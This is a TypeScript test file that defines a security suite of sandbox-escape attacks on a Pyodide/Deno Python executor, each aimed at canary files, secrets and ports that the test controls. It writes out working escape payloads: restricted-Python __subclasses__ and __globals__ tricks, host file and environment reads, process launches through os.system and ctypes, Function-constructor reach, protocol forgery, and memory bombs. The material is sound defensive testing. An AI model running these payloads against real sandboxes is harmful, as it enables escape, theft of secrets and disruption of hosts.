import type { CodeOutput } from "@smol/core";
import { denoAttacks } from "./deno-attacks.js";
import { protocolHostAttacks } from "./protocol-attacks.js";
import { runtimeAttacks } from "./runtime-attacks.js";

/** What the attacks aim at: values and places the test controls on the host. */
export interface AttackTargets {
  /** A file outside the sandbox holding `fileSecret`. */
  canaryFile: string;
  fileSecret: string;
  /** The name of a host environment variable holding `environmentSecret`. */
  environmentVariable: string;
  environmentSecret: string;
  /** A host path that must never come to exist. */
  forbiddenWrite: string;
  /** A host path a process started by the sandbox would create. */
  processMarker: string;
  /** A 127.0.0.1 port whose listener counts connections (it must see none). */
  listenerPort: number;
  maxPrintOutputsLength: number;
}

/**
 * Which executor an attack runs on: `open` lets the code import anything (the in-interpreter
 * import policy is switched off, so the process boundary is tested alone); `policy` has the
 * default import policy; `shortTimeout` stops runs after a few seconds; `lowMemory` has a small
 * memory limit.
 */
export type AttackExecutor = "open" | "policy" | "shortTimeout" | "lowMemory";

export interface Attack {
  name: string;
  on: AttackExecutor;
  code(targets: AttackTargets): string;
  /** Extra checks on the attack's own output, besides "no leak, no side effect, healthy after". */
  check?(output: CodeOutput, targets: AttackTargets): void;
  /** The attack must end with an error (Python's, or the sandbox's own report). */
  mustFail?: boolean;
  /**
   * Bounds on the host process while the attack and its follow-up run (defaults in the
   * harness): growth of its resident memory, and the longest its event loop was held.
   */
  hostBounds?: { rssMb?: number; eventLoopLagMs?: number };
  /**
   * The attack may leave its sandbox unusable: the first run after it may report that the
   * runtime stopped (and restart it); the run after that must work.
   */
  mayEndSandbox?: boolean;
  /** Run the attack in a child Node process with a capped heap, so a host crash is reported. */
  isolated?: boolean;
  /** Code run just before the attack, on the same executor (e.g. a variable it must not lose). */
  before?: string;
  /** After the attack, this code must give `value` on the same executor: the session survived. */
  survives?: { code: string; value: unknown };
}

/** A Python string literal (JSON strings are valid Python literals). */
const py = (value: string): string => JSON.stringify(value);

/** Python that builds a JS function with the `Function` constructor and calls it. */
function throughFunctionConstructor(reach: string, javascript: string): string {
  return `import js\nfrom pyodide.ffi import to_js\n${reach}\nmake(${py(javascript)})()`;
}

/** Several ways to reach JavaScript's `Function` constructor from Python, each bound to `make`. */
const FUNCTION_CONSTRUCTORS: [string, string][] = [
  ["js.Function", "make = js.Function.new"],
  ["js.eval", `make = lambda body: js.eval("(function () {" + body + "})")`],
  ["constructor.constructor of a proxy", "make = to_js({}).constructor.constructor"],
  [
    "pyodide.code.run_js",
    `from pyodide.code import run_js\nmake = lambda body: run_js("(function () {" + body + "})")`,
  ],
];

function fileAttacks(): Attack[] {
  return [
    {
      name: "reads a host file with open()",
      on: "open",
      code: (t) => `open(${py(t.canaryFile)}).read()`,
      mustFail: true,
    },
    {
      name: "reads a host file with pathlib",
      on: "open",
      code: (t) => `import pathlib\npathlib.Path(${py(t.canaryFile)}).read_text()`,
      mustFail: true,
    },
    {
      name: "reads a host file with Deno.readTextFileSync",
      on: "open",
      code: (t) => `import js\njs.Deno.readTextFileSync(${py(t.canaryFile)})`,
      mustFail: true,
    },
    {
      name: "reads a host file through node:fs",
      on: "open",
      code: (t) => `import js\njs.process.getBuiltinModule("fs").readFileSync(${py(t.canaryFile)}, "utf8")`,
      mustFail: true,
    },
    {
      name: "lists the host's root directory",
      on: "open",
      code: () => "import js\n[entry.name for entry in js.Deno.readDirSync('/')]",
      mustFail: true,
    },
    {
      name: "reads the host's environment from /proc/<parent>/environ",
      on: "open",
      code: () => "import js\njs.Deno.readTextFileSync(f'/proc/{js.Deno.ppid}/environ')",
      mustFail: true,
    },
    {
      name: "mounts the host's file system with NODEFS",
      on: "open",
      code: (t) =>
        `import pyodide_js, os\nos.makedirs('/host', exist_ok=True)\n` +
        `pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, pyodide_js.ffi.to_js({'root': ${py(dirname(t.canaryFile))}}), '/host')\n` +
        `open('/host/' + ${py(basename(t.canaryFile))}).read()`,
      mustFail: true,
    },
    {
      name: "mounts a native directory with mountNativeFS",
      on: "open",
      code: () =>
        "import js, pyodide_js\npyodide_js.mountNativeFS('/native', js.navigator.storage.getDirectory())",
      mustFail: true,
    },
    {
      name: "asks Deno for more permissions",
      on: "open",
      code: () => 'import js\njs.Deno.permissions.requestSync(js.JSON.parse(\'{"name": "read"}\')).state',
      // Denied, or refused outright (a sandbox may take the request away): never granted.
      check: (output) => {
        if (output.error === undefined) expectEqual(output.output, "denied", "a permission request");
      },
    },
  ];
}

function writeAttacks(): Attack[] {
  return [
    {
      name: "writes a host file with open()",
      on: "open",
      code: (t) => `open(${py(t.forbiddenWrite)}, 'w').write('pwned')`,
    },
    {
      name: "writes a host file with Deno.writeTextFileSync",
      on: "open",
      code: (t) => `import js\njs.Deno.writeTextFileSync(${py(t.forbiddenWrite)}, 'pwned')`,
      mustFail: true,
    },
    {
      name: "writes a host file through node:fs",
      on: "open",
      code: (t) =>
        `import js\njs.process.getBuiltinModule("fs").writeFileSync(${py(t.forbiddenWrite)}, "pwned")`,
      mustFail: true,
    },
    {
      name: "writes a host file through a NODEFS mount",
      on: "open",
      code: (t) =>
        `import pyodide_js, os\nos.makedirs('/out', exist_ok=True)\n` +
        `pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, pyodide_js.ffi.to_js({'root': ${py(dirname(t.forbiddenWrite))}}), '/out')\n` +
        `open('/out/' + ${py(basename(t.forbiddenWrite))}, 'w').write('pwned')`,
      mustFail: true,
    },
    {
      name: "persists data in localStorage or the Cache API for a later sandbox",
      on: "open",
      code: () =>
        "import js\nstorage = js.Function.new('return [typeof globalThis.localStorage, typeof globalThis.caches]')()\nlist(storage)",
      check: (output) => expectEqual(output.output, ["undefined", "undefined"], "persistent web storage"),
    },
  ];
}

function environmentAttacks(): Attack[] {
  return [
    {
      name: "reads a host variable with os.environ",
      on: "open",
      code: (t) => `import os\nos.environ.get(${py(t.environmentVariable)})`,
    },
    {
      name: "reads a host variable with Deno.env",
      on: "open",
      code: (t) => `import js\njs.Deno.env.get(${py(t.environmentVariable)})`,
      mustFail: true,
    },
    {
      name: "reads a host variable with process.env",
      on: "open",
      code: (t) => `import js\njs.process.env[${py(t.environmentVariable)}]`,
      mustFail: true,
    },
    {
      name: "reads the host's name and network interfaces",
      on: "open",
      code: () => "import js\n(js.Deno.hostname(), js.Deno.networkInterfaces())",
      mustFail: true,
    },
  ];
}

function networkAttacks(): Attack[] {
  return [
    {
      name: "connects with a Python socket",
      on: "open",
      code: (t) =>
        `import socket\nsocket.create_connection(('127.0.0.1', ${t.listenerPort}), timeout=2).sendall(b'hi')`,
      mustFail: true,
    },
    {
      name: "connects with urllib",
      on: "open",
      code: (t) =>
        `import urllib.request\nurllib.request.urlopen('http://127.0.0.1:${t.listenerPort}/', timeout=2).read()`,
      mustFail: true,
    },
    {
      name: "connects with pyodide.http.open_url",
      on: "open",
      code: (t) =>
        `from pyodide.http import open_url\nopen_url('http://127.0.0.1:${t.listenerPort}/').read()`,
      mustFail: true,
    },
    {
      name: "connects with fetch and Deno.connect",
      on: "open",
      code: (t) =>
        `import js\njs.fetch('http://127.0.0.1:${t.listenerPort}/')\n` +
        `js.Deno.connect(js.JSON.parse('{"hostname": "127.0.0.1", "port": ${t.listenerPort}}'))`,
    },
    {
      name: "connects with a WebSocket",
      on: "open",
      code: (t) => `import js\njs.WebSocket.new('ws://127.0.0.1:${t.listenerPort}/')`,
      mustFail: true,
    },
    {
      name: "imports a remote module (https: and a 127.0.0.1 URL)",
      on: "open",
      code: (t) =>
        `import js\njs.eval("import('http://127.0.0.1:${t.listenerPort}/exfiltrate.js'); import('https://example.com/x.js')")\n'sent'`,
    },
    {
      name: "imports an npm: module",
      on: "open",
      code: () => `import js\njs.eval("import('npm:left-pad')")\n'sent'`,
    },
    {
      name: "imports node:http and connects",
      on: "open",
      // The request object comes back at once; the connection would need the event loop,
      // which never turns while the sandbox serves (and the permission is denied anyway).
      code: (t) =>
        `import js\njs.process.getBuiltinModule('http').get('http://127.0.0.1:${t.listenerPort}/')`,
    },
  ];
}

function processAttacks(): Attack[] {
  const touch = (t: AttackTargets) => `touch ${t.processMarker}`;
  return [
    {
      name: "starts a process with os.system",
      on: "open",
      code: (t) => `import os\nos.system(${py(touch(t))})`,
    },
    {
      name: "starts a process with subprocess",
      on: "open",
      code: (t) => `import subprocess\nsubprocess.run(['touch', ${py(t.processMarker)}])`,
      mustFail: true,
    },
    { name: "forks with os.fork", on: "open", code: () => "import os\nos.fork()", mustFail: true },
    {
      name: "starts a process with Deno.Command",
      on: "open",
      code: (t) =>
        `import js\njs.Deno.Command.new('touch', js.JSON.parse(${py(JSON.stringify({ args: [t.processMarker] }))})).outputSync()`,
      mustFail: true,
    },
    {
      name: "starts a process through node:child_process",
      on: "open",
      code: (t) => `import js\njs.process.getBuiltinModule('child_process').execSync(${py(touch(t))})`,
      mustFail: true,
    },
    {
      name: "kills the host process",
      on: "open",
      code: () => "import js\njs.Deno.kill(js.Deno.ppid, 'SIGKILL')",
      mustFail: true,
    },
  ];
}

function ffiAttacks(): Attack[] {
  return [
    {
      name: "calls system() through ctypes",
      on: "open",
      code: (t) => `import ctypes\nctypes.CDLL(None).system(${py(`touch ${t.processMarker}`)}.encode())`,
    },
    {
      name: "opens libc with Deno.dlopen",
      on: "open",
      code: () =>
        `import js\njs.Deno.dlopen('libc.so.6', js.JSON.parse('{"getpid": {"parameters": [], "result": "i32"}}'))`,
      mustFail: true,
    },
  ];
}

/** Each capability retried from JavaScript code built with the Function constructor. */
function functionConstructorAttacks(): Attack[] {
  const goals: [string, (t: AttackTargets) => string][] = [
    ["reads a host file", (t) => `return Deno.readTextFileSync(${JSON.stringify(t.canaryFile)});`],
    ["reads a host variable", (t) => `return Deno.env.get(${JSON.stringify(t.environmentVariable)});`],
    ["writes a host file", (t) => `Deno.writeTextFileSync(${JSON.stringify(t.forbiddenWrite)}, "pwned");`],
    [
      "connects to the listener",
      (t) => `return Deno.connect({ hostname: "127.0.0.1", port: ${t.listenerPort} });`,
    ],
    [
      "starts a process",
      (t) => `return new Deno.Command("touch", { args: [${JSON.stringify(t.processMarker)}] }).outputSync();`,
    ],
    [
      "opens a native library",
      () => `return Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } });`,
    ],
  ];
  const attacks: Attack[] = [];
  for (const [reachName, reach] of FUNCTION_CONSTRUCTORS) {
    for (const [goal, javascript] of goals) {
      attacks.push({
        name: `${goal} from JavaScript reached through ${reachName}`,
        on: "open",
        code: (t) => throughFunctionConstructor(reach, javascript(t)),
        // Deno.connect returns a promise that rejects later; everything else throws at once.
        mustFail: goal !== "connects to the listener",
      });
    }
  }
  return attacks;
}

/** The classic escapes from a restricted Python, run under the default import policy. */
function pythonEscapeAttacks(): Attack[] {
  const readCanary = (t: AttackTargets) => `open(${py(t.canaryFile)}).read()`;
  return [
    {
      name: "finds os through ().__class__.__bases__[0].__subclasses__()",
      on: "policy",
      code: (t) =>
        "wrapper = [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == '_wrap_close'][0]\n" +
        "os_globals = wrapper.__init__.__globals__\n" +
        `leak = os_globals['environ'].get(${py(t.environmentVariable)})\nos_globals['system'](${py(`touch ${t.processMarker}`)})`,
      mustFail: true,
    },
    {
      name: "reaches builtins through a function's __globals__",
      on: "policy",
      code: (t) =>
        "import random\nimporter = random.Random.__init__.__globals__['__builtins__']['__import__']\n" +
        `importer('js').Deno.readTextFileSync(${py(t.canaryFile)})`,
      mustFail: true,
    },
    {
      name: "uses the os module re-exported by random",
      on: "policy",
      code: (t) => `import random\nrandom._os.system(${py(`touch ${t.processMarker}`)})`,
    },
    {
      name: "walks traceback frames up to the runtime's globals",
      on: "policy",
      code: (t) =>
        "try:\n    1 / 0\nexcept ZeroDivisionError as error:\n    frame = error.__traceback__.tb_frame\n" +
        "while frame.f_back is not None:\n    frame = frame.f_back\n" +
        `found = [value for value in frame.f_globals.values() if getattr(value, '__name__', '') == 'importlib']\n` +
        `found[0].import_module('js').Deno.readTextFileSync(${py(t.canaryFile)}) if found else ${readCanary(t)}`,
      mustFail: true,
    },
    {
      name: "walks frames with sys._getframe",
      on: "open",
      code: (t) =>
        `import sys\nframe = sys._getframe()\nwhile frame.f_back is not None:\n    frame = frame.f_back\nframe.f_globals['__builtins__']\n${readCanary(t)}`,
      mustFail: true,
    },
    {
      name: "imports through __builtins__.__import__",
      on: "policy",
      code: (t) => `__builtins__.__import__('os').environ.get(${py(t.environmentVariable)})`,
      mustFail: true,
    },
    {
      name: "finds modules with gc.get_objects",
      on: "open",
      code: (t) =>
        "import gc\nmodules = [o for o in gc.get_objects() if type(o).__name__ == 'module' and o.__name__ == 'js']\n" +
        `(modules[0] if modules else __import__('js')).Deno.readTextFileSync(${py(t.canaryFile)})`,
      mustFail: true,
    },
    {
      name: "imports os under an alias",
      on: "policy",
      code: () => "import os as operating_system\noperating_system.getcwd()",
      mustFail: true,
    },
    {
      name: "imports from os",
      on: "policy",
      code: () => "from os import system\nsystem('true')",
      mustFail: true,
    },
    {
      name: "imports a submodule os.path",
      on: "policy",
      code: () => "import os.path as p\np.exists('/')",
      mustFail: true,
    },
    {
      name: "imports with importlib.import_module",
      on: "policy",
      code: () => "import importlib\nimportlib.import_module('subprocess')",
      mustFail: true,
    },
    { name: "imports with __import__", on: "policy", code: () => "__import__('js')", mustFail: true },
    {
      name: "imports js inside exec()",
      on: "policy",
      code: (t) => `exec(${py(`import js\nleak = js.Deno.readTextFileSync(${py(t.canaryFile)})`)})\nleak`,
      mustFail: true,
    },
  ];
}

function resourceAttacks(): Attack[] {
  return [
    {
      name: "loops forever",
      on: "shortTimeout",
      code: () => "while True:\n    pass",
      check: (output) => expectEqual(output.error?.type, "TimeoutError", "an infinite loop"),
    },
    {
      name: "allocates more memory than the limit in Python",
      on: "lowMemory",
      code: () => "hog = bytearray(1536 * 1024**2)",
      check: (output) => expectEqual(output.error?.type, "MemoryError", "a Python memory bomb"),
    },
    {
      name: "grows a list past the memory limit",
      on: "lowMemory",
      code: () => "hog = []\nwhile True:\n    hog.append('x' * 10**6)",
      check: (output) => expectEqual(output.error?.type, "MemoryError", "a growing list"),
    },
    {
      name: "allocates JavaScript buffers past the memory limit",
      on: "lowMemory",
      code: () => "import js\nhogs = [js.Uint8Array.new(64 * 1024 * 1024).fill(1) for _ in range(64)]",
      check: (output) => expectEqual(output.error?.type, "MemoryError", "a JavaScript memory bomb"),
    },
    {
      name: "floods the output",
      on: "open",
      code: () => "for _ in range(200):\n    print('x' * 10_000)\nfor i in range(100_000):\n    print(i)",
      check: (output, t) => {
        if (output.logs.length > t.maxPrintOutputsLength + 1_000) {
          throw new Error(`the logs were not truncated: ${output.logs.length} characters`);
        }
      },
    },
    {
      name: "recurses without end",
      on: "open",
      code: () => "def dive(depth):\n    return dive(depth + 1)\ndive(0)",
      check: (output) => expectEqual(output.error?.type, "RecursionError", "unbounded recursion"),
    },
    {
      name: "recurses without end after raising the recursion limit",
      on: "shortTimeout",
      code: () =>
        "import sys\nsys.setrecursionlimit(10**7)\ndef dive(depth):\n    return dive(depth + 1)\ndive(0)",
      mustFail: true,
    },
  ];
}

/** Attacks on the protocol itself: the guest owns its stdio. */
function protocolAttacks(): Attack[] {
  return [
    {
      name: "forges a protocol line with the session's prefix",
      on: "open",
      // The nonce is in the sandbox's own memory: find it, then send a malformed framed line.
      code: () =>
        "import gc, re, js\nframed = re.compile('smol:[0-9a-f]{32} ')\n" +
        "def strings_of(o):\n    try:\n        space = o if isinstance(o, dict) else vars(o)\n" +
        "        return [v for v in list(space.values()) if isinstance(v, str)]\n    except Exception:\n        return []\n" +
        "prefix = next(v for o in gc.get_objects() for v in strings_of(o) if framed.fullmatch(v))\n" +
        'js.Deno.stdout.writeSync(js.TextEncoder.new().encode(prefix + \'{"type": "result", "id": 12}\\n\'))\n\'forged\'',
      mustFail: true,
    },
    {
      name: "writes a line longer than the protocol allows",
      on: "open",
      code: () =>
        "import js\nchunk = js.TextEncoder.new().encode('x' * 2**20)\nfor _ in range(80):\n    js.Deno.stdout.writeSync(chunk)",
      mustFail: true,
    },
    {
      name: "steals the host's next line from stdin",
      on: "shortTimeout",
      code: () => "import js\nbuffer = js.Uint8Array.new(1024)\njs.Deno.stdin.readSync(buffer)",
      mustFail: true,
    },
    {
      name: "exits the sandbox process",
      on: "open",
      code: () => "import js\njs.Deno.exit(0)",
      mustFail: true,
    },
  ];
}

/** Every attack of the security suite. */
export function sandboxAttacks(): Attack[] {
  return [
    ...fileAttacks(),
    ...writeAttacks(),
    ...environmentAttacks(),
    ...networkAttacks(),
    ...processAttacks(),
    ...ffiAttacks(),
    ...functionConstructorAttacks(),
    ...pythonEscapeAttacks(),
    ...resourceAttacks(),
    ...protocolAttacks(),
    ...protocolHostAttacks(),
    ...runtimeAttacks(),
    ...denoAttacks(),
  ];
}

function expectEqual(actual: unknown, expected: unknown, what: string): void {
  if (JSON.stringify(actual) !== JSON.stringify(expected)) {
    throw new Error(`${what}: expected ${JSON.stringify(expected)}, got ${JSON.stringify(actual)}`);
  }
}

function dirname(path: string): string {
  return path.slice(0, path.lastIndexOf("/")) || "/";
}

function basename(path: string): string {
  return path.slice(path.lastIndexOf("/") + 1);
}
